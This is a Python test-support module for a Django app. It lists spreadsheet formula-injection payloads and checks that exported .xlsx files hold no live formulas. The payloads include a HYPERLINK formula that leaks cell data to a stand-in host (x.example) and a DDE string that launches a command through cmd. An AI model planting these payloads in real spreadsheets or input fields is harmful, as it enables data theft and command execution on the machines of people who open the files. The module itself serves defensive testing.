"""Test support shared by every app's tests: formula payloads for the text a user can
type, and the check that a spreadsheet the app wrote holds none of them live. Imported
only by tests."""

from __future__ import annotations

import io

from django.db import connection
from openpyxl import load_workbook

from jijie.core.sheets import FORMULA_STARTS

# What an attacker types where a name goes: each would run if a sheet evaluated it.
PAYLOADS = (
    '=HYPERLINK("http://x.example/?"&INDIRECT("L"&ROW()),"查看")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1+1",
)


def as_stored(payload: str, max_length: int) -> str:
    """`payload` as a text column keeps it: cut to the column's length, and without NUL
    on PostgreSQL, which refuses it in text."""
    if connection.vendor == "postgresql":
        payload = payload.replace("\x00", "")
    return payload[:max_length]


def readable(payload: str) -> str:
    """`payload` as a spreadsheet reads back: no NUL (it cannot hold one), LF for CR."""
    return payload.replace("\x00", "").replace("\r", "\n")


def live_cells(data: bytes) -> list[str]:
    """Every cell of every sheet of an .xlsx that a spreadsheet would run, as
    "sheet!A1: value": a formula cell, or text starting as a formula does."""
    found = []
    workbook = load_workbook(io.BytesIO(data))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                value = cell.value
                if cell.data_type == "f" or (
                    isinstance(value, str) and value.startswith(FORMULA_STARTS)
                ):
                    found.append(f"{sheet.title}!{cell.coordinate}: {value!r}")
    return found
